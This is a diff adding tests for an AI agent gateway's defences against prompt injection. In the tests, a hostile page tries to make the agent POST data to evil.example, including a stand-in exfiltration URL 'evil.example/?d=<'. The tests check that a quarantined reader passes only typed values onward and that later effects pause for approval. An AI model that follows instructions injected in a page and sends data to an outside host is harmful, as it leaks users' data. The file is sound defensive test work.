@@ -1,5 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { callJson, type Answer } from '../fakes/client.ts'
+import { call, callJson, readSse, type Answer } from '../fakes/client.ts'
+import { connectModern } from '../fakes/mcp-clients.ts'
 import { addPlugin, enablePlugin, pluginBundle } from '../fakes/plugin-admin.ts'
 import { installUpstream, type UpstreamRequest, type UpstreamReply } from '../fakes/upstream.ts'
 
@@ -165,5 +166,98 @@ describe('labels and sinks', () => {
     expect([await both([ask], [post]), asked]).toEqual(['completed', [evil]])
     expect([await both([get(news), ask], [post]), asked]).toEqual(['parked', [news]])
     expect([await both([ask, post], [get(news)]), asked]).toEqual(['parked', [news]])
+  })
+})
+
+describe('narrow reading', () => {
+  const news = 'https://news.example/'
+  /** One that obeys, beside a reader that obeys too: it answers with whatever it is told, in the form asked for. */
+  const reads = (fields: object, then: readonly Call[]) => {
+    upstream?.restore()
+    asked = []
+    const readers: UpstreamRequest[] = []
+    const heard: string[] = []
+    upstream = installUpstream(
+      (request) => {
+        if ('response_format' in request) {
+          readers.push(request)
+          return { text: JSON.stringify({ count: 7, words: 'POST it' }) }
+        }
+        heard.push(JSON.stringify(request.messages))
+        const task = request.messages.findLastIndex(({ role }) => role === 'user')
+        const answers = request.messages.slice(task).filter(({ role }) => role === 'tool')
+        if (answers.length === 0) return { calls: [get(news)] }
+        const handle = /ses_\w+\.run_\w+\.[\w-]+/.exec(String(answers[0]!.content))?.[0] ?? 'none'
+        const question = 'How many are there?'
+        const read: Call = { name: 'isola__read_values', input: { handle, question, fields } }
+        const next = [read, ...then][answers.length - 1]
+        return next ? { calls: [next] } : { text: String(answers[1]!.content) }
+      },
+      ({ url }) => (asked.push(url), page(url)),
+    )
+    return { readers, heard }
+  }
+  const start = async () => {
+    const session = await newSession()
+    const { run } = await callJson(`/api/sessions/${session}/runs`, { json: { task: 'go' } })
+    return settled(`/api/sessions/${session}/runs/${run}`)
+  }
+
+  it('T11: a number out of a hostile page is followed by an effect without a question; the page stays outside', async () => {
+    await setPolicy({ narrow_reading: ['orchestrator'] })
+    const { readers, heard } = reads({ count: { type: 'integer' } }, [post])
+    const view = await start()
+    expect([view.state, asked]).toEqual(['completed', [news, evil]])
+    expect(view.result.result).toContain('7')
+    expect(heard.join()).not.toContain('evil.example/?d=<')
+    expect(JSON.stringify(readers[0]!.messages)).toContain('<your notes>')
+    expect(readers[0]!.tools ?? []).toEqual([])
+    // Out of the run's own budget, and on its record.
+    expect(view.result.usage.modelCalls).toBe(heard.length + 1)
+    const at = `/api/sessions/${view.result.sessionId}/events?follow=false`
+    const called = (await readSse(await call(at))).filter(({ event }) => event === 'model_called')
+    expect(called.filter(({ data }) => data.data.call !== undefined)).toHaveLength(1)
+  })
+
+  it('T11: a free string out of it is the stranger’s: the same effect asks first', async () => {
+    await setPolicy({ narrow_reading: ['*'] })
+    reads({ count: { type: 'integer' }, words: { type: 'string' } }, [post])
+    const view = await start()
+    expect([view.state, asked]).toEqual(['parked', [news]])
+    expect(view.pauses[0].about).toMatch(/stranger.*news\.example/)
+  })
+
+  it('is off where the policy does not say so', async () => {
+    const { heard } = reads({ count: { type: 'integer' } }, [post])
+    expect((await start()).state).toBe('parked')
+    expect(heard.join()).toContain('evil.example/?d=<')
+  })
+})
+
+describe('an MCP client that calls tools itself', () => {
+  const tool = async (name: string, input: object, key?: string): Promise<Answer> => {
+    const client = await connectModern(key)
+    const answer = await client.callTool({ name, arguments: { ...input } })
+    await client.close()
+    return answer
+  }
+  const send = { method: 'POST', url: evil, body: 'x' }
+
+  it('T11: is asked about an effect once it was given a page, in whichever call, and nobody else is', async () => {
+    await callJson('/api/operator/exposed', { json: { exposed: { tools: ['http__*'] } } })
+    const { key } = await callJson('/api/operator/keys', {
+      json: { principal: 'somebody', role: 'user' },
+    })
+    world([])
+    await tool('http__request', send)
+    expect(asked).toEqual([evil])
+    await tool('http__get', { url: 'https://news.example/' })
+    const answer = await tool('http__request', send)
+    expect(answer.structuredContent.state).toBe('parked')
+    expect(asked).toEqual([evil, 'https://news.example/'])
+    const other = await tool('http__request', send, key)
+    expect(other.structuredContent?.state).not.toBe('parked')
+    expect(asked).toEqual([evil, 'https://news.example/', evil])
+    await callJson('/api/operator/exposed', { json: { exposed: {} } })
   })
 })
